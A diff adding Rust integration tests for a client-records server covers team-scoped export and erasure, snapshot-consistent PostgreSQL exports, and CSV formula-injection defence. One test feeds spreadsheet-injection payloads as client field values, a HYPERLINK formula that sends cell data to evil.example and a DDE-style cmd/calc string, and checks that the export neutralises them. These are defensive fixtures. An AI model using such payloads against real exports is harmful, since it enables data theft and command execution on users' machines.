@@ -397,6 +397,163 @@ async fn the_operator_erases_a_client_through_the_same_path(backend: Backend) {
     );
 }
 
+/// Pushes a contact of `client` from `device` with `summary`; returns its id.
+async fn push_contact(server: &TestServer, device: &Device, client: Uuid, summary: &str) -> Uuid {
+    let id = Uuid::now_v7();
+    let results = server
+        .push(
+            device,
+            vec![
+                change(device, "contact", id, "client_id", json!(client), 0, NOW_MS),
+                change(device, "contact", id, "summary", json!(summary), 0, NOW_MS),
+            ],
+        )
+        .await;
+    assert!(
+        results.iter().all(|r| r.status == ChangeStatus::Applied),
+        "{results:?}"
+    );
+    id
+}
+
+both_backends!(a_team_leads_export_and_erasure_stay_inside_their_team);
+async fn a_team_leads_export_and_erasure_stay_inside_their_team(backend: Backend) {
+    let server = start(backend).await;
+    let coach = server.login("coach_a").await;
+    let lead = server.login("lead_n").await;
+    let coach_s = server.login("coach_s").await;
+    let (client, _) = create_client(&server, &coach, &[("given_name", json!("Amina"))]).await;
+    let own = push_contact(&server, &coach, client, "north's meeting").await;
+    // A contact of team south that names north's client (only a broken or hostile laptop
+    // writes one: south's laptops never see north's clients).
+    let foreign = push_contact(&server, &coach_s, client, "Southsecretqx").await;
+
+    // The export gives north's records only: nothing of south's contact, not even its id.
+    let reply = server
+        .request(
+            Method::GET,
+            &format!("/v1/clients/{client}/export"),
+            Some(&lead.token),
+            None,
+        )
+        .await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
+    let export: ClientExport = reply.json();
+    let contacts: Vec<&Value> = export.contacts.iter().map(|c| &c["record_id"]).collect();
+    assert_eq!(contacts, [&json!(own.to_string())]);
+    let text = reply.body.to_string();
+    assert!(!text.contains("Southsecretqx"), "{text}");
+    assert!(!text.contains(&foreign.to_string()), "{text}");
+
+    // The erasure would have to remove a record of south: refused, and nothing is erased.
+    let audit_before = server.audit_len().await;
+    let reply = server
+        .request(
+            Method::POST,
+            &format!("/v1/clients/{client}/erase"),
+            Some(&lead.token),
+            None,
+        )
+        .await;
+    assert_eq!(reply.status, StatusCode::CONFLICT, "{}", reply.body);
+    assert_eq!(reply.error_code(), "linked_from_other_team");
+    let message = reply.body["message"].as_str().unwrap();
+    assert!(
+        message.contains("tandem-server admin client erase"),
+        "{message}"
+    );
+    assert!(!message.contains(&foreign.to_string()), "{message}");
+    assert_eq!(server.audit_len().await, audit_before);
+    let kept: Vec<Uuid> = server
+        .pull_all(&coach_s)
+        .await
+        .iter()
+        .map(|c| c.record_id)
+        .collect();
+    assert!(kept.contains(&foreign));
+    let kept: Vec<Uuid> = server
+        .pull_all(&coach)
+        .await
+        .iter()
+        .map(|c| c.record_id)
+        .collect();
+    assert!(kept.contains(&client) && kept.contains(&own));
+
+    // The operator, whose erasure is not a team's, erases everything that names the client.
+    let mut erased: Vec<Uuid> = server
+        .store
+        .erase_clients(tandem_server::store::ErasureRequest {
+            clients: vec![client],
+            team_id: None,
+            actor: AuditActor::Operator,
+            reason: tandem_server::store::ErasureReason::Request,
+            now: server.clock.now(),
+        })
+        .await
+        .unwrap()
+        .iter()
+        .map(|p| p.record_id)
+        .collect();
+    erased.sort_unstable();
+    let mut expected = vec![client, own, foreign];
+    expected.sort_unstable();
+    assert_eq!(erased, expected);
+    assert_eq!(
+        traces_of(&server.database, "Southsecretqx").await,
+        Vec::<String>::new()
+    );
+}
+
+both_backends!(a_value_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text);
+async fn a_value_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text(backend: Backend) {
+    let server = start(backend).await;
+    let coach = server.login("coach_a").await;
+    let lead = server.login("lead_n").await;
+    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Amina")"#;
+    let (client, _) = create_client(
+        &server,
+        &coach,
+        &[
+            ("given_name", json!(formula)),
+            ("nickname", json!("@SUM(1+1)*cmd|' /C calc'!A0")),
+            ("municipality", json!("-2+3")),
+        ],
+    )
+    .await;
+    let text = server
+        .http
+        .get(format!("{}/v1/clients/{client}/export", server.base))
+        .bearer_auth(&lead.token)
+        .header("accept", "text/csv")
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
+    assert!(
+        text.contains(&format!("current,client,{client},given_name,{quoted},")),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!("history,client,{client},given_name,{quoted},")),
+        "{text}"
+    );
+    assert!(
+        text.contains(",nickname,'@SUM(1+1)*cmd|' /C calc'!A0,"),
+        "{text}"
+    );
+    assert!(text.contains(",municipality,'-2+3,"), "{text}");
+    // No cell of the file begins with a formula's first character.
+    for line in text.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell} in {line}");
+        }
+    }
+}
+
 both_backends!(the_access_export_gives_every_field_contact_and_history_as_json_and_csv);
 async fn the_access_export_gives_every_field_contact_and_history_as_json_and_csv(backend: Backend) {
     let server = start(backend).await;
@@ -530,6 +687,100 @@ async fn tamper(database: &TestDatabase, sql: &str) {
             connection.await.unwrap().unwrap();
         }
     }
+}
+
+/// A connection of the test's own to a PostgreSQL test database.
+async fn pg_connection(database: &TestDatabase) -> tokio_postgres::Client {
+    let TestDatabase::Postgres { url } = database else {
+        unreachable!("a PostgreSQL test")
+    };
+    let (client, connection) = tokio_postgres::connect(url, tokio_postgres::NoTls)
+        .await
+        .unwrap();
+    tokio::spawn(connection);
+    client
+}
+
+/// PostgreSQL only: SQLite's read transaction is one snapshot by its nature.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_export_on_postgres_reads_one_snapshot_while_others_write() {
+    let server = start(Backend::Postgres).await;
+    let coach = server.login("coach_a").await;
+    let lead = server.login("lead_n").await;
+    let (client, _) = create_client(&server, &coach, &[("given_name", json!("Amina"))]).await;
+
+    // A writer holds the history table, so the export waits for it after its first reads.
+    let mut writer = pg_connection(&server.database).await;
+    let write = writer.transaction().await.unwrap();
+    write
+        .batch_execute("LOCK TABLE change_log IN ACCESS EXCLUSIVE MODE")
+        .await
+        .unwrap();
+    let export = {
+        let request = server
+            .http
+            .get(format!("{}/v1/clients/{client}/export", server.base))
+            .bearer_auth(&lead.token);
+        tokio::spawn(async move { request.send().await.unwrap().text().await.unwrap() })
+    };
+    // Until the export's reads wait on the writer's lock (a state, not a time).
+    let watcher = pg_connection(&server.database).await;
+    loop {
+        let waiting: i64 = watcher
+            .query_one(
+                "SELECT COUNT(*) FROM pg_stat_activity
+                 WHERE datname = current_database() AND wait_event_type = 'Lock'",
+                &[],
+            )
+            .await
+            .unwrap()
+            .get(0);
+        if waiting > 0 {
+            break;
+        }
+        assert!(
+            !export.is_finished(),
+            "the export never waited for the writer"
+        );
+        tokio::task::yield_now().await;
+    }
+    // The writer adds a value to the client's history and commits: an export that read it
+    // now would give a history its other parts (read before) do not match.
+    write
+        .execute(
+            "INSERT INTO change_log (seq, team_id, entity, record_id, field, value, hlc,
+                 author_id, change_id, device_id, effective, recorded_ms)
+             SELECT MAX(seq) + 1, $1, 'client', $2, 'nickname', '\"Snapshotqx\"',
+                 '0001768471200000-00000-test', $3, $4, NULL, TRUE, $5
+             FROM change_log",
+            &[
+                &server.team("north"),
+                &client,
+                &coach.user_id,
+                &Uuid::now_v7(),
+                &NOW_MS,
+            ],
+        )
+        .await
+        .unwrap();
+    write.commit().await.unwrap();
+    let text = export.await.unwrap();
+    let export: ClientExport = serde_json::from_str(&text).unwrap();
+    assert_eq!(export.client["given_name"], json!("Amina"));
+    assert!(
+        !text.contains("Snapshotqx"),
+        "the export read a write committed after it began: {text}"
+    );
+    // The next export sees it.
+    let again = server
+        .request(
+            Method::GET,
+            &format!("/v1/clients/{client}/export"),
+            Some(&lead.token),
+            None,
+        )
+        .await;
+    assert!(again.body.to_string().contains("Snapshotqx"));
 }
 
 both_backends!(audit_verify_names_the_first_changed_or_removed_entry);
